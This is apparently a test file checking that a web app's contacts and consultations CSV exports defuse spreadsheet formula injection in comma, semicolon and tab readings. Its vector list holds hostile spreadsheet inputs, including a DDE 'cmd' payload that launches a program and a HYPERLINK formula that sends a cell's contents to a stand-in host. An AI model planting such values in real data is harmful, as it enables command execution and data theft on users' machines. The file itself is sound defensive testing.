// The inbox's CSV export through /trpc (batched, as the admin's browser asks for it) and the REST
// file route, opened as spreadsheets open it: split on "," and, as a French-locale spreadsheet
// does, on ";" (and on tabs). No cell of any reading may start a formula.
import { describe, expect, it } from "vitest";
import { csvCell } from "../../src/domain/csv";
import { dbLabel, useSignedInApp } from "../helpers/app";
import { batchResults, trpcBatch, trpcQueryBatch } from "../trpc/support";

const t = useSignedInApp();

/** Values a visitor or an admin can type that a spreadsheet would run, or that break a naive writer. */
const VECTORS = [
  "x;=1+1",
  "x,=1+1",
  "x\t=1+1",
  " =1+1",
  "\u0001=1+1",
  "\r=1",
  "-2+3",
  "@SUM(1)",
  '"quoted"',
  '"=1+1"',
  "first line\n=1+1",
  "first line\r\n@SUM(1)",
  "x; \t+1",
  'x;"=1+1',
  "x;cmd|' /C calc'!A0;",
  '=HYPERLINK("http://example.com/?"&A1;"click")',
  "+33 6 12 34 56 78",
];

interface Cell {
  value: string;
  quoted: boolean;
}

/**
 * Splits CSV text as a spreadsheet does: a quote opens a quoted value only at the start of a cell
 * ("" inside is a quote; anything after the closing quote is kept), elsewhere it is a character;
 * a record ends at CRLF, LF or CR outside quotes.
 */
function readCsv(text: string, separator: string): Cell[][] {
  const rows: Cell[][] = [];
  let row: Cell[] = [];
  let i = 0;
  for (;;) {
    let value = "";
    const quoted = text[i] === '"';
    if (quoted) {
      i++;
      while (i < text.length) {
        if (text[i] !== '"') value += text[i++];
        else if (text[i + 1] === '"') {
          value += '"';
          i += 2;
        } else {
          i++;
          break;
        }
      }
    }
    while (i < text.length && text[i] !== separator && text[i] !== "\r" && text[i] !== "\n") value += text[i++];
    row.push({ value, quoted });
    if (text[i] === separator) {
      i++;
      continue;
    }
    rows.push(row);
    row = [];
    i += text[i] === "\r" && text[i + 1] === "\n" ? 2 : 1;
    if (i >= text.length) return rows;
  }
}

/** Cells a spreadsheet would run as a formula: = + - @ first, behind any spaces, control characters or quotes. */
const formulas = (rows: Cell[][]) => rows.flat().filter((c) => /^[\s\p{Cc}"]*[=+\-@]/u.test(c.value));

/** Every reading of the file is safe, and the ","-reading gives back each value (with only ' added). */
function expectSafe(csv: string): Array<Record<string, string>> {
  expect(csv.startsWith("\uFEFF")).toBe(true);
  const text = csv.slice(1);
  for (const separator of [",", ";", "\t"]) expect(formulas(readCsv(text, separator)), `split on ${JSON.stringify(separator)}`).toEqual([]);
  const [header, ...records] = readCsv(text, ",");
  return records.map((r) => Object.fromEntries(header!.map((h, i) => [h.value, r[i]?.value ?? ""])));
}
/** The value read back, less the ' the writer added before formula starts: nothing else may differ. */
function withoutDefusing(value: string, original: string): string {
  let out = "";
  for (const c of value) if (c !== "'" || original[out.length] === "'") out += c;
  return out;
}

describe(`the leads CSV export, read as spreadsheets read it (${dbLabel})`, () => {
  it("defuses every formula in every reading of the contacts file, through /trpc and /api alike, losing nothing", async () => {
    const created = await trpcBatch(
      t.app,
      "leads.createContact",
      VECTORS.map((v, i) => ({
        firstName: `Csv${i}`,
        lastName: v,
        email: `csv${i}@example.com`,
        company: v,
        subject: "project",
        message: v,
      })),
    );
    expect(batchResults(created).every((r) => r.result)).toBe(true);
    // Notes keep leading spaces and control characters: the vectors exactly as typed.
    const listed = batchResults(
      await trpcQueryBatch(t.app, [["admin.leads.list", { kind: "contact", perPage: 100 }]], { cookie: t.cookie }),
    );
    const { items: rows } = listed[0]!.result!.data as { items: Array<{ id: number; firstName: string }> };
    const idOf = (i: number) => rows.find((r) => r.firstName === `Csv${i}`)!.id;
    const notes = await trpcBatch(
      t.app,
      "admin.leads.update",
      VECTORS.map((v, i) => ({ kind: "contact", id: idOf(i), notes: v })),
      { cookie: t.cookie },
    );
    expect(batchResults(notes).every((r) => r.result)).toBe(true);

    const [viaTrpc] = batchResults(
      await trpcQueryBatch(t.app, [["admin.leads.export", { kind: "contact", q: "csv" }]], { cookie: t.cookie }),
    );
    const file = viaTrpc?.result?.data as { filename: string; csv: string };
    expect(file.filename).toMatch(/^contacts-\d{4}-\d{2}-\d{2}\.csv$/);

    const viaRest = await t.app.inject({ method: "GET", url: "/api/admin/leads/export?kind=contact&q=csv", headers: { cookie: t.cookie } });
    expect(viaRest.statusCode, viaRest.body).toBe(200);
    expect(viaRest.headers["content-type"]).toBe("text/csv; charset=utf-8");
    expect(viaRest.headers["content-disposition"]).toBe(`attachment; filename="${file.filename}"`);
    expect(viaRest.body).toBe(file.csv);

    const records = expectSafe(file.csv);
    expect(records).toHaveLength(VECTORS.length);
    VECTORS.forEach((v, i) => {
      const record = records.find((r) => r.firstName === `Csv${i}`)!;
      expect(withoutDefusing(record.notes!, v)).toBe(v);
      expect(withoutDefusing(record.message!, v.trim())).toBe(v.trim()); // the form trims what it stores
      expect(withoutDefusing(record.lastName!, v.trim())).toBe(v.trim());
    });
    // A plain value is left as it is.
    expect(file.csv.split("\r\n")[0]).toBe(
      "\uFEFFid,firstName,lastName,email,company,subject,message,createdAt,status,notes,lang,consentText,consentAt",
    );
    expect(records.find((r) => r.firstName === `Csv${VECTORS.indexOf("+33 6 12 34 56 78")}`)?.company).toBe("'+33 6 12 34 56 78");
  });

  it("defuses the consultations file the same way", async () => {
    const res = await t.app.inject({
      method: "POST",
      url: "/api/consultation",
      payload: { name: "x;=1+1", email: "csv-consult@example.com", company: "@SUM(1)", message: "Budget:\n-2+3;=1" },
    });
    expect(res.statusCode, res.body).toBe(201);
    const rest = await t.app.inject({ method: "GET", url: "/api/admin/leads/export?kind=consultation", headers: { cookie: t.cookie } });
    expect(rest.headers["content-disposition"]).toMatch(/^attachment; filename="consultations-\d{4}-\d{2}-\d{2}\.csv"$/);
    const [record] = expectSafe(rest.body);
    expect(record).toMatchObject({ name: "x;'=1+1", company: "'@SUM(1)", projectDescription: "Budget:\n'-2+3;'=1" });
  });

  it("defuses a value no form can store (NUL) the same way", () => {
    const [record] = expectSafe(`\uFEFFh1,h2\r\n${["\u0000=1+1", "a;\u0000@x"].map(csvCell).join(",")}\r\n`);
    expect(record).toEqual({ h1: "'\u0000=1+1", h2: "a;'\u0000@x" });
  });

  it("answers a bad export request with a clear 400 and no file", async () => {
    const rest = await t.app.inject({ method: "GET", url: "/api/admin/leads/export?kind=everyone", headers: { cookie: t.cookie } });
    expect(rest.statusCode).toBe(400);
    expect(rest.headers["content-type"]).toMatch(/^application\/json/);
    const anonymous = await t.app.inject({ method: "GET", url: "/api/admin/leads/export?kind=contact" });
    expect(anonymous.statusCode).toBe(401);
  });
});
